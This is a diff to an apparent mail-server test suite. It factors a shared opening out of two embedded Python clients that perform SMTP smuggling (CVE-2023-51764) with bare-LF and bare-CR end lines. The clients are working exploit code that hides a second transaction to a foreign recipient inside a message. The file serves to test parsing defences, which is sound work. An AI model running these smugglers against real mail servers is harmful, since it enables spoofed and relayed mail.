@@ -302,11 +302,10 @@ def test_probe_relay_test_follows_an_accepted_rcpt_with_data(verdicts_lab: V.Ver
 
 # ---- a message's end line with a bare LF (SMTP smuggling) ---------------------------------------------------------
 
-# A client that sends a message whose first end line is "\n.\n", then, in the same write, a second transaction to a
-# foreign recipient ending with the exact "\r\n.\r\n" (the smuggling of CVE-2023-51764), and prints what it got.
-SMUGGLER = r"""
+# What both smugglers do first: connect from ``source``, greet, and open a message to a local recipient.
+SMUGGLER_OPENING = r"""
 import socket, sys, time
-host, port, source, local_rcpt, foreign_rcpt = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
+host, port, source, local_rcpt, foreign_rcpt = sys.argv[1], int(sys.argv[2]), *sys.argv[3:6]
 s = socket.create_connection((host, port), timeout=20, source_address=(source, 0))
 got = b""
 def wait_for(text, deadline=20.0):
@@ -320,6 +319,12 @@ def wait_for(text, deadline=20.0):
 wait_for(b"220 ")
 s.sendall(b"EHLO smuggler.example\r\n"); wait_for(b"250 ")
 s.sendall(b"MAIL FROM:<a@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n" % local_rcpt.encode()); wait_for(b"354 ")
+"""
+# A client that sends a message whose first end line is "\n.\n", then, in the same write, a second transaction to a
+# foreign recipient ending with the exact "\r\n.\r\n" (the smuggling of CVE-2023-51764), and prints what it got.
+SMUGGLER = (
+    SMUGGLER_OPENING
+    + r"""
 s.sendall(b"Subject: first\r\n\r\nhello\n.\nMAIL FROM:<b@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n"
           b"Subject: smuggled\r\n\r\nsmuggled\r\n.\r\n" % foreign_rcpt.encode())
 wait_for(b"queued as", 10); time.sleep(1.0)
@@ -329,6 +334,7 @@ except OSError:
     pass
 sys.stdout.write(got.decode("latin-1"))
 """
+)
 
 
 def test_bare_lf_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, tmp_path: Path) -> None:
@@ -365,22 +371,10 @@ def test_bare_lf_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, t
 
 # The same smuggling with a bare CR ("\r.\r", Cisco Secure Email's end line): the smuggled lines end at the exact end,
 # or ("bare-lf") at "\n.\n"; then two NOOPs and QUIT once the message is answered.
-SMUGGLER_CR = r"""
-import socket, sys, time
-host, port, source, local_rcpt, foreign_rcpt, ending = sys.argv[1], int(sys.argv[2]), *sys.argv[3:7]
-s = socket.create_connection((host, port), timeout=20, source_address=(source, 0))
-got = b""
-def wait_for(text, deadline=20.0):
-    global got
-    end = time.time() + deadline
-    while text not in got and time.time() < end:
-        chunk = s.recv(65536)
-        if not chunk:
-            break
-        got += chunk
-wait_for(b"220 ")
-s.sendall(b"EHLO smuggler.example\r\n"); wait_for(b"250 ")
-s.sendall(b"MAIL FROM:<a@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n" % local_rcpt.encode()); wait_for(b"354 ")
+SMUGGLER_CR = (
+    SMUGGLER_OPENING
+    + r"""
+ending = sys.argv[6]
 smuggled = b"Subject: first\r\n\r\nhello\r.\rMAIL FROM:<b@outside.example>\r\nRCPT TO:<%s>\r\n" % foreign_rcpt.encode()
 if ending == "exact":
     s.sendall(smuggled + b"DATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n")
@@ -390,6 +384,7 @@ wait_for(b"queued as", 10); time.sleep(1.0)
 s.sendall(b"NOOP\r\nNOOP\r\nQUIT\r\n"); wait_for(b"221 ", 5)
 sys.stdout.write(got.decode("latin-1"))
 """
+)
 
 
 def test_bare_cr_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, tmp_path: Path) -> None:
